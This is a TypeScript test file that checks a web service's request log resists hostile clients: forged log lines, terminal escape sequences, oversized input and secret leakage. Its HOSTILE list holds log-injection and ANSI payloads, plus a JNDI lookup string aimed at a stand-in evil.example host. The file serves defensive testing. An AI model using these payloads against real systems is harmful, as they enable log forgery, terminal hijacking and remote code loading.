// One line a request, whatever a client sends: no client can write its own line into the log, control the terminal of an operator who reads
// it, or make it contain a secret. The service runs in its own process, because its real output counts.
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { readableLine } from '../../src/platform/log.ts'
import { type ServiceProcess, spawnService } from '../harness/process.ts'
import { exchange, request } from '../harness/raw.ts'
import { ADMIN_TOKEN } from '../harness/service.ts'
import { copyTemplate } from '../harness/template.ts'

const ESC = '\x1b'
const LONG = 'l0ng'.repeat(3_000)
const FORGED =
  '{"level":"info","time":"2026-01-01T00:00:00.000Z","method":"GET","path":"/forged","status":200,"ms":1,"caller":"operator","msg":"request"}'
/** Texts for a path, a query, a header or a field. */
const HOSTILE = [
  `a%0d%0a${encodeURIComponent(FORGED)}`,
  `a%0A09:30:00 200 GET  /forged 1 ms`.replaceAll(' ', '%20'),
  'a%00b%07%08%7f',
  `${encodeURIComponent(`${ESC}[2J${ESC}[1;31mowned${ESC}]0;title\x07`)}`,
  '%9b31m%c2%9b31m',
  '%e2%80%a8%e2%80%a9%c2%85%e2%80%ae',
  '","status":200,"caller":"operator","x":"'.replaceAll('"', '%22'),
  '%25s%25d%25j%25n%7B%7B7*7%7D%7D%24%7Bjndi:ldap://evil.example/a%7D',
]

interface Run {
  format: 'json' | 'text'
  process: ServiceProcess
  secrets: string[]
  requests: number
  lines: string[]
}

const folders: string[] = []
const runs: Record<string, Run> = {}

/** Sends every hostile request, then stops the service normally: the log is complete afterwards. */
async function attack(format: 'json' | 'text'): Promise<Run> {
  const folder = mkdtempSync(join(tmpdir(), 'catalog-log-'))
  folders.push(folder)
  await copyTemplate(folder)
  const child = await spawnService({ DATA_DIR: folder, LOG_FORMAT: format, RATE_LIMIT_SCALE: '1000' })
  await child.ready()
  const made = await child.call('/api/admin/keys', { method: 'POST', body: { email: 'reader@example.com' } })
  // A hostile name that an operator copied.
  const makePartner = (name: string) =>
    child.call('/api/admin/partners', { method: 'POST', body: { name, support: 'hybrid' } })
  expect((await makePartner(`Partner\r\n${FORGED}${ESC}[31m`)).status).toBe(400)
  const partner = await makePartner(`Partner ${FORGED}`)
  const { key } = made.body.data
  const { key: partnerKey, webhookSecret } = partner.body.data
  const began = child.output().length
  let requests = 0
  const send = async (bytes: Buffer) => {
    const received = await exchange(child.origin, bytes, 5_000)
    // Bytes that Node cannot read as HTTP are not logged as a request; every other answer has this header.
    if (received.includes('x-content-type-options')) requests++
  }
  const close = 'Connection: close'
  for (const hostile of [...HOSTILE, encodeURIComponent(LONG)]) {
    const raw = decodeURIComponentLeniently(hostile).replaceAll(/[\0\r\n]/g, ' ')
    await send(request('GET', `/api/v1/tools/${hostile}?q=${hostile}`, [close, `X-API-Key: ${key}`]))
    await send(request('GET', `/${hostile}`, [close, `User-Agent: ${latin(raw)}`, `Referer: ${latin(raw)}`]))
    await send(
      request('GET', '/api/v1/tags', [
        close,
        `X-API-Key: ${key}`,
        `X-Request-Id: ${latin(raw)}`,
        `Request-Id: ${latin(raw)}`,
        `X-Correlation-Id: ${latin(raw)}`,
        `Traceparent: ${latin(raw)}`,
      ]),
    )
    await send(request('GET', '/api/v1/tags', [close, `Authorization: Bearer ${latin(raw)}`]))
    const form = `email=${hostile}&password=${encodeURIComponent('hunter2-password')}&next=${hostile}`
    await send(
      request(
        'POST',
        '/sign-in',
        [close, `Origin: ${child.origin}`, 'Content-Type: application/x-www-form-urlencoded'],
        form,
      ),
    )
    const body = JSON.stringify({
      question: raw,
      externalId: raw.slice(0, 100),
      customer: { name: raw, email: 'customer@private.example' },
    })
    await send(
      request(
        'POST',
        '/api/v1/support/ask',
        [close, `X-API-Key: ${partnerKey}`, 'Content-Type: application/json'],
        body,
      ),
    )
    await send(
      request('GET', `/link?token=${hostile}`, [
        close,
        'Accept: text/html',
        `Cookie: catalog_${new URL(child.origin).port}_session=${latin(raw).replaceAll(';', '')}`,
      ]),
    )
    await send(request('GET', `/api/v1/tools/${key}/${hostile}?key=${key}`, [close]))
  }
  // Raw bytes above ASCII in the address, which no browser sends.
  await send(
    request('GET', Buffer.from('/api/v1/tools/\x9b31m\xff\x85', 'latin1').toString('latin1'), [
      close,
      `X-API-Key: ${key}`,
    ]),
  )
  // Log lines are written in batches of a second; a stop writes the rest.
  await child.kill('SIGTERM')
  const text = child.output().slice(began)
  const secrets = [
    key,
    partnerKey,
    webhookSecret,
    ADMIN_TOKEN,
    'hunter2-password',
    'customer@private.example',
    'reader@example.com',
  ]
  const lines = text.split('\n').filter((line) => line !== '' && !line.includes('/api/admin/'))
  return { format, process: child, secrets, requests, lines }
}

const latin = (text: string) => Buffer.from(text, 'utf8').toString('latin1')

function decodeURIComponentLeniently(text: string): string {
  return Buffer.from(
    text.replace(/%([0-9a-f]{2})/gi, (_, digits: string) => String.fromCharCode(Number.parseInt(digits, 16))),
    'latin1',
  ).toString('latin1')
}

beforeAll(async () => {
  for (const run of await Promise.all([attack('json'), attack('text')])) runs[run.format] = run
})
afterAll(async () => {
  for (const { process } of Object.values(runs)) await process.kill()
  for (const folder of folders) rmSync(folder, { recursive: true, force: true })
})

const REQUEST_LINE = { json: /"msg":"request"\}$/, text: /^\d\d:\d\d:\d\d \d{3} [A-Z]+ +\S+ [\d.]+ ms · / }

describe.each(['json', 'text'] as const)('as %s', (format) => {
  test('there is one line a request, and no line that a client wrote', () => {
    const { lines, requests } = runs[format]!
    const requestLines = lines.filter((line) => REQUEST_LINE[format].test(line))
    expect(requests).toBeGreaterThan(50)
    expect(requestLines).toHaveLength(requests)
    for (const line of lines) {
      expect(line).not.toMatch(/^.{0,30}GET +\/forged/)
      if (format === 'json') {
        const entry = JSON.parse(line)
        expect(entry.path).not.toBe('/forged')
        expect(['visitor', 'operator']).toContain(entry.caller?.replace(/^key .*/, 'visitor') ?? 'visitor')
      } else expect(line).toMatch(/^\d\d:\d\d:\d\d /)
    }
  })

  test('no character of a client controls a terminal or breaks a line', () => {
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for.
    for (const line of runs[format]!.lines) expect(line).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029]/)
  })

  test('no line holds a key, a password, a token, a cookie, a secret or a user’s e-mail address', () => {
    const { lines, secrets } = runs[format]!
    for (const line of lines)
      for (const secret of secrets) {
        expect(line).not.toContain(secret)
        expect(decodeURIComponentLeniently(line)).not.toContain(secret)
      }
  })

  test('the request id of a client is not used', () => {
    for (const line of runs[format]!.lines) expect(line).not.toContain('owned\\u')
    expect(runs[format]!.lines.filter((line) => line.includes(LONG) && line.includes('tags'))).toEqual([])
  })

  test('no line is longer than the longest accepted address', () => {
    for (const line of runs[format]!.lines) expect(line.length).toBeLessThan(20_000)
  })
})

test('an error with a hostile message begins no line and controls no terminal', () => {
  const err = {
    message: `broken\n09:30:00 200 GET  /forged${ESC}[31m`,
    stack: `Error: broken\n09:30:00 200 GET  /forged 1 ms · operator${ESC}[31m\n    at x`,
  }
  const line = readableLine(
    JSON.stringify({ time: '2026-01-01T00:00:00.000Z', level: 'error', msg: `a${ESC}\r\n`, err, who: `b\n${ESC}` }),
    false,
  )
  expect(line.split('\n').filter((text) => /^\d\d:\d\d:\d\d /.test(text))).toHaveLength(1)
  expect(line).not.toContain(ESC)
  const caller = readableLine(
    JSON.stringify({
      time: '2026-01-01T00:00:00.000Z',
      level: 'info',
      msg: 'request',
      method: 'GET',
      path: '/\n',
      status: 200,
      ms: 1,
      caller: `x\n${ESC}`,
    }),
    false,
  )
  expect(caller.trimEnd().split('\n')).toHaveLength(1)
  expect(caller).not.toContain(ESC)
})
